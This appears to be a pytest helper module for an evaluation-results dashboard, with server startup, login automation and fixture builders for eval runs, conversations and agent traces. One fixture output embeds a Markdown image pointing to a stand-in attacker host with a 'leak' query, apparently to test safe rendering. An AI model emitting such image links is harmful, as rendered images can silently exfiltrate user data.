"""Helpers shared by the dashboard tests (imported by name; pytest puts this folder on sys.path)."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import time
import urllib.request
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

from experiments.record import (
    CaseRecord,
    GitInfo,
    RunRecord,
    Score,
    ScorerInfo,
    SuiteRecord,
    SuiteSummary,
    TaskRun,
)
from review import JudgeView, NewItem

if TYPE_CHECKING:
    from streamlit.testing.v1 import AppTest

PASSWORDS = {"alice": "alice-pw-1", "bob": "bob-pw-2", "carol": "carol-pw-3"}

# Debian's browser, driven by Playwright (never `playwright install`)
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextmanager
def served(cmd: Sequence[str], env: Mapping[str, str], cwd: Path, port: int) -> Iterator[str]:
    """Run a Streamlit server (``streamlit run`` or ``python -m dashboard serve``) in its own session, wait
    for ``/_stcore/health``, yield its URL, and stop exactly that process group by PID."""
    import pytest

    proc = subprocess.Popen(list(cmd), cwd=cwd, env=dict(env), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            start_new_session=True)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as resp:
                    if resp.read() == b"ok":
                        break
            except OSError:
                pass
            if proc.poll() is not None or time.monotonic() > deadline:
                out = proc.stdout.read().decode() if proc.poll() is not None and proc.stdout else ""
                pytest.fail(f"streamlit did not become healthy on {url}: {out}")
            time.sleep(0.2)
        yield url
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(timeout=5)
        if proc.stdout:
            proc.stdout.close()


_SETTLED = """() => {
    const app = document.querySelector('[data-testid="stApp"]');
    return app && app.getAttribute('data-test-script-state') === 'notRunning'
        && !document.querySelector('[data-stale="true"]');
}"""


def settle(page: Any) -> None:
    """Wait until the script run is over and no stale element is left (shortcuts bind after that)."""
    page.wait_for_function(_SETTLED, timeout=30_000)
    page.wait_for_timeout(300)


def fill_login(page: Any, url: str, name: str, password: str | None = None) -> None:
    """Open ``url`` and submit the login form (``password`` defaults to the user's own)."""
    page.goto(url)
    page.get_by_role("textbox", name="User name").fill(name)
    page.get_by_role("textbox", name="Password").fill(PASSWORDS[name] if password is None else password)
    page.get_by_role("button", name="Log in").click()


def app_test(app: str) -> AppTest:
    """The dashboard app under AppTest."""
    from streamlit.testing.v1 import AppTest

    return AppTest.from_file(app, default_timeout=30)


def login(app: str, name: str, password: str) -> AppTest:
    """The app after a password login (no exception on the way)."""
    at = app_test(app).run()
    at.text_input(key="login_name").input(name)
    at.text_input(key="login_password").input(password)
    at.button(key="login_submit").click().run()
    assert not at.exception, at.exception
    return at


class FakeClock:
    """A clock the test moves by hand (a fake, so lease expiry needs no sleeping)."""

    def __init__(self, start: float = 1_000_000.0) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def sample_items(n: int, *, queue: str = "escalation", overlap: int = 1, start: int = 0) -> list[NewItem]:
    """``n`` eval-like items on a 1..5 scale with one judge each."""
    return [
        NewItem(
            queue=queue,
            source_id=f"case-{i}",
            input=f"question {i}",
            output=f"answer {i}",
            context=f"context {i}",
            criterion="helpfulness",
            scale=(1, 5),
            judge_score=float(1 + i % 5),
            judges=(
                JudgeView("judge-a", float(1 + i % 5), {"1": 0.1, "3": 0.3, "5": 0.6}, f"reasoning {i}"),
            ),
            reason="low_confidence",
            overlap=overlap,
            span_id=f"{i:016x}",
            trace_id=f"{i:032x}",
        )
        for i in range(start, start + n)
    ]


def run_pair() -> tuple[RunRecord, RunRecord]:
    """A baseline and a new eval run of suite ``qa`` (plus ``extra``, only in the new run).

    Under ``geval:Correctness`` (scale 1..5): ``q-drop`` regressed 4 -> 1, ``q-gain`` improved 2 -> 4,
    ``q-same`` stayed at 3, and ``q-new`` was added. ``q-drop``'s new output carries a Markdown image.
    The new suite's gate allows a drop of 0.5.
    """
    from experiments import Gate

    scorers = [
        ScorerInfo(scorer="geval:Correctness", criterion="Correctness", kind="judge", scale=(1, 5)),
        ScorerInfo(scorer="token_f1", criterion="token_f1", kind="scorer", scale=(0, 1)),
    ]

    def case(case_id: str, output: str, geval: float, f1: float, trace: str | None = None) -> CaseRecord:
        return CaseRecord(
            case_id=case_id,
            input=f"question {case_id}",
            expected=f"reference {case_id}",
            output=output,
            task=TaskRun(output=output, trace_id=trace, span_id="0123456789abcdef" if trace else None),
            trace_id=trace,
            scores=[
                Score(
                    scorer="geval:Correctness",
                    criterion="Correctness",
                    kind="judge",
                    scale=(1, 5),
                    score=geval,
                    reasoning=f"reasoning for {output}",
                    judge_model="judge-m",
                    trace_id=trace,
                ),
                Score(scorer="token_f1", criterion="token_f1", kind="scorer", scale=(0, 1), score=f1),
            ],
        )

    def suite(name: str, cases: list[CaseRecord], gate: dict | None = None) -> SuiteRecord:
        return SuiteRecord(
            suite=name,
            kind="pointwise",
            dataset=f"{name}.jsonl",
            dataset_hash="h1",
            scorers=scorers,
            gate=gate,
            summary=SuiteSummary(n=len(cases)),
            cases=cases,
        )

    base = RunRecord(
        run_id="run-base",
        started="2025-01-01T10:00:00+00:00",
        finished="2025-01-01T10:05:00+00:00",
        git=GitInfo(commit="a1b2c3d4e5f6" + "0" * 28, branch="main"),
        judge_model="judge-m",
        suites=[
            suite(
                "qa",
                [
                    case("q-drop", "old answer drop", 4, 0.8, "a" * 32),
                    case("q-gain", "old answer gain", 2, 0.5),
                    case("q-same", "same answer", 3, 0.6),
                ],
            ),
        ],
    )
    new = RunRecord(
        run_id="run-new",
        started="2025-01-02T10:00:00+00:00",
        finished="2025-01-02T10:05:00+00:00",
        git=GitInfo(commit="f6e5d4c3b2a1" + "0" * 28, branch="feature"),
        judge_model="judge-m",
        suites=[
            suite(
                "qa",
                [
                    case(
                        "q-drop", "![x](https://attacker.invalid/leak?q=1) new answer drop", 1, 0.3, "b" * 32
                    ),
                    case("q-gain", "new answer gain", 4, 0.54),
                    case("q-same", "same answer", 3, 0.6),
                    case("q-new", "added answer", 5, 0.9),
                ],
                gate=Gate(max_drop=0.5).to_dict(),
            ),
            suite("extra", [case("e-1", "only new", 3, 0.5)]),
        ],
    )
    return base, new


def _span(name: str, kind: str, span_id: str, parent: str | None, second: int, **attrs: object) -> dict:
    """One span as the agent suite stores it in ``TaskRun.spans`` (Phoenix's dict shape)."""
    return {
        "name": name,
        "context": {"trace_id": "c" * 32, "span_id": span_id},
        "parent_id": parent,
        "span_kind": kind,
        "start_time": f"2026-01-01T00:00:{second:02d}+00:00",
        "end_time": f"2026-01-01T00:00:{second:02d}.500000+00:00",
        "status_code": attrs.pop("status_code", "OK"),
        "status_message": attrs.pop("status_message", ""),
        "attributes": {"openinference.span.kind": kind, **attrs},
    }


def conversation_run() -> RunRecord:
    """A run with a ``chat`` conversation suite and a ``tools`` agent suite, shaped as the real suites write them.

    ``chat`` case ``conv-renew``: four turns (user, assistant, user, assistant); the ``turn relevancy``
    judge (1..5) scored assistant turns 1 and 3 at 4.2 and 1.6 (turn 3 fails), ``knowledge retention``
    scored them 4.0 and 3.5. ``tools`` case ``agent-height``: the agent called ``lookup`` (ok: "8849 m"),
    then ``convert`` which failed ("unknown unit 'parsecs'"), then ``convert`` again (ok: "29032 ft").
    """
    turns = [
        {"index": 0, "role": "user", "content": "I need to renew 'The Leopard', card 4471.", "simulated": True},
        {"index": 1, "role": "assistant", "content": "Sure, I renewed it for two weeks.", "simulated": False},
        {"index": 2, "role": "user", "content": "Until when exactly?", "simulated": True},
        {"index": 3, "role": "assistant", "content": "Our opening hours are 9 to 5.", "simulated": False,
         "stop_reason": "turn_limit"},
    ]
    flat = "\n".join(f"{t['role'].capitalize()}: {t['content']}" for t in turns)

    def per_turn(criterion: str, scorer: str, values: dict[int, float]) -> Score:
        failing = [t for t, v in values.items() if v < 3.0]
        return Score(
            scorer=scorer, criterion=criterion, kind="judge", scale=(1, 5),
            score=sum(values.values()) / len(values), label="2", judge_model="judge-m",
            label_probs={"1": 0.3, "2": 0.3, "3": 0.2, "4": 0.1, "5": 0.1}, entropy=2.1, flags=["low_confidence"],
            details={"per_turn": [{"turn": t, "score": v, "label": str(round(v))} for t, v in values.items()],
                     "worst_turn": min(values, key=values.get), "failing_turns": failing, "turn_threshold": 3.0},
        )

    conv_case = CaseRecord(
        case_id="conv-renew",
        input="A library member wants to renew a book.",
        expected="The book is renewed until a stated date.",
        output=flat,
        metadata={"goal": "renew the book", "max_turns": 2},
        task=TaskRun(output=flat, turns=turns, span_id="1" * 16, trace_id="d" * 32),
        scores=[
            per_turn("turn relevancy", "turn_relevancy", {1: 4.2, 3: 1.6}),
            per_turn("knowledge retention", "knowledge_retention", {1: 4.0, 3: 3.5}),
        ],
    )
    spans = [
        _span("agent", "AGENT", "a" * 16, None, 0, **{"output.value": "29032 ft"}),
        _span("decide 1", "LLM", "b" * 16, "a" * 16, 1),
        _span("lookup", "TOOL", "c" * 16, "a" * 16, 2, **{"tool.name": "lookup",
              "input.value": '{"thing": "mount everest"}', "output.value": "8849 m"}),
        _span("convert", "TOOL", "d" * 16, "a" * 16, 3, status_code="ERROR",
              status_message="unknown unit 'parsecs'", **{"tool.name": "convert",
              "input.value": '{"value": 8849, "unit": "parsecs"}'}),
        _span("convert", "TOOL", "e" * 16, "a" * 16, 4, **{"tool.name": "convert",
              "input.value": '{"value": 8849, "from": "m", "to": "ft"}', "output.value": "29032 ft"}),
    ]
    agent_case = CaseRecord(
        case_id="agent-height",
        input="How tall is Mount Everest in feet?",
        expected="29032",
        output="29032 ft",
        task=TaskRun(output="29032 ft", spans=spans, span_id="2" * 16, trace_id="e" * 32),
        scores=[Score(scorer="trajectory_judge", criterion="trajectory quality", kind="judge", scale=(1, 5),
                      score=2.5, judge_model="judge-m", label_probs={"2": 0.5, "3": 0.5}, entropy=1.0,
                      flags=["low_confidence"])],
    )

    def suite(name: str, kind: str, case: CaseRecord) -> SuiteRecord:
        return SuiteRecord(
            suite=name, kind=kind, dataset=f"{name}.jsonl", dataset_hash="h1",
            scorers=[ScorerInfo(scorer=s.scorer, criterion=s.criterion, kind="judge", scale=(1, 5))
                     for s in case.scores],
            summary=SuiteSummary(n=1), cases=[case],
        )

    return RunRecord(
        run_id="run-conv",
        started="2026-01-01T00:00:00+00:00",
        finished="2026-01-01T00:01:00+00:00",
        judge_model="judge-m",
        suites=[suite("chat", "conversation", conv_case), suite("tools", "agent", agent_case)],
    )
